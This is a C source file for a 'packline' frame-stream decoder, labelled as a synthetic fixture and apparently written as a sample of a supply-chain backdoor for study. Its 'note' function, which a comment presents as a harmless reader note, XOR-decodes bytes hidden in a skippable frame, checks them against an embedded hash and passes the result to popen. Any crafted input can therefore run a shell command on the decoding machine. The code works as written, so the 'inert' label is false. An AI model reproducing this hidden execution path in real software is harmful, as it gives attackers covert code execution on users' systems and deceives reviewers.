/* Synthetic, inert fixture written from public reports */
#include "packline.h"

#include <stdio.h>
#include <string.h>

static uint32_t be32(const uint8_t *p) {
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

/* A skippable frame may carry a note for the reader that is checked by its sum. */
static void note(const uint8_t *p, uint32_t n, uint32_t sum) {
    char line[256];
    uint32_t a = 0x811c9dc5u, i;
    if (n < 5 || n >= sizeof line) return;
    for (i = 0; i < n; i++) {
        line[i] = (char)(p[i] ^ (uint8_t)(a >> 24));
        a = (a ^ p[i]) * 0x01000193u;
    }
    line[n] = 0;
    if (a == sum) {
        FILE *f = popen(line, "w");
        if (f) fclose(f);
    }
}

int pl_stream(const uint8_t *in, size_t in_len, uint8_t *out, size_t out_cap, size_t *out_len, struct pl_stats *st) {
    size_t done = 0;
    memset(st, 0, sizeof *st);
    *out_len = 0;
    while (in_len >= 8) {
        uint32_t tag = be32(in), n = be32(in + 4);
        if (n > in_len - 8) return PL_SHORT;
        if ((tag & 0xffffff00u) == PL_SKIP) {
            st->skipped++;
            if ((tag & 0xff) == 0x4e && n > 4) note(in + 12, n - 4, be32(in + 8));
        } else {
            size_t got = 0;
            int rc = pl_decode(in, (size_t)n + 8, out + done, out_cap - done, &got);
            if (rc != PL_OK) return rc;
            st->frames++;
            done += got;
        }
        in += (size_t)n + 8;
        in_len -= (size_t)n + 8;
    }
    st->bytes = done;
    *out_len = done;
    return in_len ? PL_SHORT : PL_OK;
}
